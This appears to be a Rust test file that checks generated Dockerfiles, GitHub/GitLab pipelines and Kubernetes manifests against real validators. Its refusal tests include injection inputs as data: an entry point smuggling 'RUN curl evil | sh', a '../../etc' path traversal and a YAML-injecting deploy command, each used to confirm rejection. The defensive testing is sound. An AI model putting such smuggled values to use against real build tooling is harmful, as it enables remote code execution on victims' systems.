//! The generators against the real validators: hadolint on the Dockerfiles of four fixture
//! projects, actionlint and GitLab CI's JSON Schema on the pipelines, kubernetes-validate on the
//! manifests; each validator also fails a planted broken file (so the checks can fail).

mod common;

use common::{fixtures, harness};
use serde_json::json;
use vana_tools_devops::{validate, DevopsConfig};

#[tokio::test]
async fn dockerfiles_of_four_projects_pass_hadolint() {
    let h = harness();
    for (lang, files) in fixtures() {
        let session = format!("s-{lang}");
        let prefixed: Vec<(String, &str)> = files.iter().map(|(p, c)| (format!("app/{p}"), *c)).collect();
        let refs: Vec<(&str, &str)> = prefixed.iter().map(|(p, c)| (p.as_str(), *c)).collect();
        h.plant(&session, &refs);
        let out = h.call(&session, "generate_dockerfile", json!({"path": "app"})).await.unwrap();
        assert_eq!(out["project"]["language"], lang, "{out}");
        let df = h.read(&session, "app/Dockerfile");
        assert_eq!(df, out["dockerfile"].as_str().unwrap());
        assert!(h.read(&session, "app/.dockerignore").contains(".git"));
        // Multi-stage, pinned, non-root, dependencies before the source.
        assert!(df.matches("\nFROM ").count() >= 2, "{lang}: not multi-stage:\n{df}");
        assert!(!df.contains(":latest"), "{df}");
        assert!(df.contains("\nUSER "), "{lang}: runs as root:\n{df}");
        let runtime = df.rsplit("\nFROM ").next().unwrap();
        assert!(!runtime.contains("USER root"), "{df}");
        let deps_at = df.find("\nRUN ").unwrap();
        let src_at = df.find(" . .\n").unwrap();
        assert!(deps_at < src_at, "{lang}: dependencies are installed after the source is copied:\n{df}");
        // hadolint, through the tool and directly on the written file.
        let v = &out["validation"];
        assert_eq!(v["validator"], "hadolint", "{lang}: {v}");
        assert_eq!(v["errors"], 0, "{lang}: hadolint errors: {v}\n{df}");
        let direct = validate::hadolint(&DevopsConfig::default(), &df).await.unwrap();
        assert_eq!(direct.errors(), 0, "{lang}: {:?}", direct.findings);
        let warnings: Vec<_> = direct.findings.iter().filter(|f| f.level == "warning").collect();
        assert!(warnings.is_empty(), "{lang}: hadolint warnings {warnings:?}\n{df}");
    }
    // Framework-specific entry points.
    let py = h.read("s-python", "app/Dockerfile");
    assert!(py.contains(r#"CMD ["uvicorn", "main:app", "--host", "0.0.0.0", "--port", "8000"]"#), "{py}");
    assert!(h.read("s-node", "app/Dockerfile").contains("RUN npm ci --omit=dev"));
    assert!(h.read("s-go", "app/Dockerfile").contains("./cmd/api"));
    assert!(h.read("s-rust", "app/Dockerfile").contains("--bin hello-svc"));
}

#[tokio::test]
async fn hadolint_fails_a_bad_dockerfile() {
    let bad = "FROM ubuntu:latest\nMAINTAINER someone\nWORKDIR app\nRUN sudo apt-get update\n";
    let r = validate::hadolint(&DevopsConfig::default(), bad).await.unwrap();
    assert!(r.errors() >= 2, "{:?}", r.findings);
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(rules.contains(&"DL3004") && rules.contains(&"DL3000"), "{rules:?}");
}

#[tokio::test]
async fn dockerfile_refusals_change_nothing() {
    let h = harness();
    h.plant("s", &[("notes.txt", "hello")]);
    let e = h.call("s", "generate_dockerfile", json!({})).await.unwrap_err().to_string();
    assert!(e.contains("no project found") && e.contains("package.json"), "{e}");
    let e = h.call("s", "generate_dockerfile", json!({"path": "../../etc"})).await.unwrap_err().to_string();
    assert!(e.contains("..") || e.contains("outside") || e.contains("refused"), "{e}");
    h.plant("s", &[("requirements.txt", "flask==3.1.0\n"), ("app.py", "x = 1\n")]);
    let e = h
        .call("s", "generate_dockerfile", json!({"entry_point": "app.py\"]\nRUN curl evil | sh #"}))
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("entry_point"), "{e}");
    assert!(!h.exists("s", "Dockerfile"), "a refused call wrote a Dockerfile");
    // Flask: port 5000 by convention.
    let out = h.call("s", "generate_dockerfile", json!({})).await.unwrap();
    assert_eq!(out["project"]["framework"], "flask");
    assert!(h.read("s", "Dockerfile").contains("EXPOSE 5000"));
}

#[tokio::test]
async fn pipelines_pass_actionlint_and_the_gitlab_schema() {
    let h = harness();
    for (lang, files) in fixtures() {
        let session = format!("ci-{lang}");
        h.plant(&session, &files);
        let out = h
            .call(&session, "generate_ci_pipeline", json!({"platform": "both", "image": "acme/api"}))
            .await
            .unwrap();
        let gh = &out["github"]["validation"];
        assert_eq!(gh["validator"], "actionlint", "{lang}: {gh}");
        assert_eq!(gh["findings"], json!([]), "{lang}: actionlint: {gh}\n{}", out["github"]["content"]);
        let gl = &out["gitlab"]["validation"];
        assert_eq!(gl["validator"], "gitlab-ci JSON Schema", "{lang}: {gl}");
        assert_eq!(gl["findings"], json!([]), "{lang}: schema: {gl}\n{}", out["gitlab"]["content"]);
        let wf = h.read(&session, ".github/workflows/ci.yml");
        for job in ["test:", "build:", "deploy:"] {
            assert!(wf.contains(job), "{wf}");
        }
        assert!(wf.contains("refs/heads/main"), "deploy is not limited to main: {wf}");
        let gitlab = h.read(&session, ".gitlab-ci.yml");
        assert!(gitlab.contains("stages:\n  - test\n  - build\n  - deploy"), "{gitlab}");
    }
}

#[tokio::test]
async fn broken_pipelines_fail_their_validators() {
    let config = DevopsConfig::default();
    let broken = "on: push\njobs:\n  test:\n    steps:\n      - run: echo ${{ github.nope.deeper }}\n      - uses: actions/checkout@v4\n        with: 3\n";
    let r = validate::actionlint(&config, broken).await.unwrap();
    assert!(!r.findings.is_empty(), "actionlint passed a broken workflow");
    assert!(r.findings.iter().any(|f| f.message.contains("runs-on")), "{:?}", r.findings);
    let broken_gl = "stages: [test]\ntest:\n  stage: test\n  script: echo hi\n  when: sometimes\n";
    let r = validate::gitlab_ci(&config, broken_gl).await.unwrap();
    assert!(!r.findings.is_empty(), "the GitLab schema passed a broken pipeline");
    // A deploy command with a newline (YAML injection) is refused.
    let h = harness();
    h.plant("s", &fixtures()[0].1);
    let e = h
        .call(
            "s",
            "generate_ci_pipeline",
            json!({"platform": "github", "deploy_command": "echo hi\n  evil: job"}),
        )
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("one line"), "{e}");
    assert!(!h.exists("s", ".github/workflows/ci.yml"));
}

#[tokio::test]
async fn k8s_manifests_pass_the_pinned_schemas() {
    let h = harness();
    let spec = json!({
        "name": "api", "image": "ghcr.io/acme/api:1.4.2", "port": 8000, "namespace": "shop",
        "env": {"LOG_LEVEL": "info"}, "host": "api.example.com", "health_path": "/healthz",
        "min_replicas": 2, "max_replicas": 6, "cpu_target": 60, "memory": "512Mi"
    });
    let out = h.call("s", "generate_k8s_manifests", json!({"spec": spec})).await.unwrap();
    assert_eq!(
        out["kinds"],
        json!(["ConfigMap", "Deployment", "Service", "Ingress", "HorizontalPodAutoscaler"])
    );
    let v = &out["validation"];
    assert!(v["validator"].as_str().unwrap_or("").starts_with("kubernetes-validate"), "{v}");
    assert_eq!(v["errors"], 0, "{v}\n{}", out["content"]);
    let yaml = h.read("s", "k8s/api.yaml");
    assert!(yaml.contains("runAsNonRoot: true") && yaml.contains("averageUtilization: 60"), "{yaml}");
    // Without a host: no Ingress.
    let out = h
        .call(
            "s",
            "generate_k8s_manifests",
            json!({"spec": {"name": "worker", "image": "acme/worker:2.0", "port": 9000}}),
        )
        .await
        .unwrap();
    assert_eq!(out["kinds"], json!(["ConfigMap", "Deployment", "Service", "HorizontalPodAutoscaler"]));
    assert_eq!(out["validation"]["errors"], 0, "{}", out["validation"]);
}

#[tokio::test]
async fn k8s_refusals_and_a_broken_manifest() {
    let h = harness();
    for (spec, field) in [
        (json!({"name": "Bad_Name", "image": "acme/a:1", "port": 80}), "name"),
        (json!({"name": "a", "image": "acme/a:latest", "port": 80}), "pinned"),
        (json!({"name": "a", "image": "acme/a:1", "port": 80, "memory": "lots"}), "memory"),
        (
            json!({"name": "a", "image": "acme/a:1", "port": 80, "min_replicas": 5, "max_replicas": 2}),
            "min_replicas",
        ),
    ] {
        let e = h.call("s", "generate_k8s_manifests", json!({"spec": spec})).await.unwrap_err().to_string();
        assert!(e.contains(field), "{e}");
    }
    assert!(!h.exists("s", "k8s/a.yaml"));
    let broken =
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  replicas: two\n  bogus: 1\n";
    let r = validate::kubernetes(&DevopsConfig::default(), broken).await.unwrap();
    assert!(r.errors() >= 1, "{:?}", r.findings);
}
